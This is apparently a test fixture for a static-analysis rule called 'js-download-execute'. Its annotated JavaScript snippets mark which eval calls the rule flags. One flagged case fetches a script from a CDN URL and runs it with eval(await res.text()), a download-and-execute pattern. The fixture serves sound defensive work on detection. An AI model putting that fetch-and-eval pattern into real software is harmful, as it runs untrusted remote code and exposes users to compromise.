// Code run from a callback or a name: only what the request delivers counts.
const localCode = require('fs').readFileSync('plugin.js', 'utf8');
fetch('https://api.example.com/ping').then((r) => {
  // ok: js-download-execute
  eval(localCode);
});

async function twoRequests() {
  const r = await fetch('https://api.example.com/a');
  const data = await r.json();
  const pending = fetch('https://cdn.example.net/t.js');
  // ok: js-download-execute
  eval(pending);
  const res = await pending;
  // ruleid: js-download-execute
  eval(await res.text());
  return data;
}

module.exports = { twoRequests };
